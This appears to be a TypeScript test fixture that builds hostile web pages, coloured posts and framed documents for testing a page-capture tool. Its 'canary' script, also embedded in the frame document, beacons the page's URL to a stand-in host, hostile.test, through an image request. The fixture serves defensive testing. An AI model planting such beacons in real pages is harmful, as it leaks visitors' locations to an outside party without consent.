import { watchScript } from './hostile-watch.ts';

/** A page and how it is sent. */
export interface HostilePage {
  readonly html: string;
  readonly headers?: Readonly<Record<string, string>>;
}

/** A program that reports where it runs, marks its window and asks the network for a picture. */
export const canary =
  "window.name='canary';new Image().src='http://hostile.test/canary?from='+encodeURIComponent(location.href)";

/** The colours of the posts, so that a picture says which post it shows. */
export const postColours = [
  [210, 40, 40],
  [40, 170, 60],
  [40, 70, 220],
] as const;

/** What the posts say, in their order. */
export const postWords = ['The first words.', 'The second words.', 'The third words.'] as const;

/** One post, 600×160 CSS pixels in its own colour, with a link to itself. */
export function post(index: number, content = escaped(postWords[index] ?? '')): string {
  return `<article id="p${index + 1}" style="box-sizing:border-box;width:600px;height:160px;margin:20px;padding:60px;background:rgb(${postColours[index]})">
<a class="author" href="/member/${index + 1}">Member ${index + 1}</a> <div class="post-body">${content}</div></article>`;
}

export const threePosts = post(0) + post(1) + post(2);

interface Parts {
  readonly title?: string;
  readonly body?: string;
  readonly style?: string;
  /** What the page does once it is loaded and told to; runs in its own world, `hostile` is the watch. */
  readonly arm?: string;
  /** What runs while the page is loaded. */
  readonly script?: string;
  readonly headers?: Readonly<Record<string, string>>;
}

/** A page with the watch in it. Scripts carry the nonce `page`, for those that have a policy. */
export function hostilePage(parts: Parts): HostilePage {
  const { title = 'Hostile', body = threePosts, style = '', arm = '', script = '', headers = {} } = parts;
  return {
    headers,
    html: `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>${escaped(title)}</title>
<script nonce="page">${watchScript}</script>
<style>body { margin: 0; font: 16px sans-serif } ${style}</style></head><body>${body}
<script nonce="page">hostile.arm = () => { ${arm} }; (() => { ${script} })();</script></body></html>`,
  };
}

export function escaped(text: string): string {
  return text.replace(/[&<>"]/g, character => `&#${character.charCodeAt(0)};`);
}

/** A string as a program writes it, whatever is in it. */
export function quoted(text: string): string {
  return JSON.stringify(text).replace(
    /[<\u2028\u2029]/g,
    character => `\\u${character.charCodeAt(0).toString(16).padStart(4, '0')}`,
  );
}

/** What stands in the frames: words, and a program that runs there. */
export const frameDocument = `<!doctype html><title>Framed</title><p>Words inside the frame.</p><script>${canary};parent.postMessage('capture:start','*')</script>`;
